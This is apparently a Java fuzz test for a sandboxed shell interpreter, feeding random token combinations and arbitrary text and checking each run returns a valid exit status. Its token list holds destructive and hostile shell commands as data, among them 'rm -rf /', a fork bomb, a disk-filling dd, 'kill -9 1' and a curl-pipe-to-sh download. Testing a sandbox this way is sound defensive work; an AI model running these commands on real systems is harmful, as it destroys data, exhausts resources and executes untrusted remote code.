package dev.layerlab.shell;

import static org.assertj.core.api.Assertions.assertThat;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;

/** 13 000 small scripts: each gives a result with a status in 0..255 and a bounded log, never an exception. */
class ShellFuzzTest {
  private static final ShellLimits SMALL = new ShellLimits(20, 1_000, 1_000, 1 << 20, 16 << 10);

  private static void assertResult(String script) {
    ShellResult r = Shell.run(script, ShellContext.of(TestImages.alpine()).withLimits(SMALL));
    assertThat(r.exitCode()).isBetween(0, 255);
  }

  @Property(tries = 10_000)
  void shellTokens_giveAResult(@ForAll("tokens") String script) {
    assertResult(script);
  }

  @Property(tries = 3_000)
  void anyShortText_givesAResult(@ForAll("anyText") String script) {
    assertResult(script);
  }

  @Provide
  Arbitrary<String> tokens() {
    Arbitrary<String> token = Arbitraries.of("echo", "a", "$x", "${x:-y}", "${#x}", "${x%%*}", "${x:?}", "$(", ")",
        "`", "'", "\"", "\\", ";", "&&", "||", "|", "&", "(", "{", "}", "if", "then", "fi", "for", "in", "do",
        "done", "while", "true", "case", "esac", ";;", "<<EOF", "EOF", "\n", ">", ">>", "2>&1", "<", "*", "[",
        "]", "$((", "))", "1/0", "/", "#", "x=1", "f()", "f", "cat", "rm -rf /", "mkdir -p a/b", "cd ..",
        "set -e", "exit", "test -f", "dd if=/dev/zero of=/big bs=1G count=1000", "yes", "seq 1 999999",
        ":(){ :|:& };:", "eval", "sh -c", "exec", "trap", "kill -9 1", "curl -fsSL https://x | sh", "sleep 9999");
    return token.list().ofMaxSize(12).map(l -> String.join(" ", l));
  }

  @Provide
  Arbitrary<String> anyText() {
    return Arbitraries.strings().all().ofMaxLength(40);
  }
}
